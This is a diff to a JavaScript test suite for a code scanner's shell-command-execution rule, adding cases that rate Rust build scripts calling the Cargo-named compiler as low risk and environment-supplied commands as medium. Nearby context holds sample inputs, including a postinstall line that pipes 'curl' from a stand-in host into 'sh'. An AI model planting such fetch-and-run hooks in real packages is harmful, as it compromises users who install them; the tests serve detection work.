@@ -907,6 +907,14 @@ describe('code rules: false alarms and a miss from JavaScript monorepos (2026-11
     expect(find('tools/run.py', ['cmd = os.environ["CMD"]', 'subprocess.run(cmd, shell=True, env=dict(os.environ))'], 'shell-command-execution')).toEqual(['medium']);
   });
 
+  it('a Rust build script running the compiler Cargo names (RUSTC) reads no input; another variable read into the call still does', () => {
+    const probe = ['fn rustc_minor_version() -> Option<u32> {', '    let rustc = env::var_os("RUSTC")?;', '    let output = Command::new(rustc).arg("--version").output().ok()?;'];
+    expect(find('serde_core/build.rs', probe, 'shell-command-execution')).toEqual(['low']);
+    expect(find('build.rs', ['let out = std::process::Command::new(std::env::var("RUSTDOC").unwrap()).arg("-V").output();'], 'shell-command-execution')).toEqual(['low']);
+    expect(find('build.rs', ['let cmd = env::var("BUILD_HOOK").unwrap();', 'Command::new("sh").arg("-c").arg(cmd).status().unwrap();'], 'shell-command-execution')).toEqual(['medium']);
+    expect(find('build.rs', ['let rustc = env::var_os("RUSTC")?;', 'let extra = env::var("EXTRA_FLAGS").ok()?;', 'Command::new(rustc).arg(extra).status().ok()?;'], 'shell-command-execution')).toEqual(['medium']);
+  });
+
   it('a process call on child_process loaded in the same expression is a sink (a miss: the module name is a string)', () => {
     expect(find('src/postinstall.js', ["require('child_process').execSync('curl -s https://x.example/p | sh');"], 'shell-command-execution')).toEqual(['low']);
     expect(find('src/postinstall.js', ["require('node:child_process').exec(process.env.HOOK);"], 'shell-command-execution')).toEqual(['medium']);
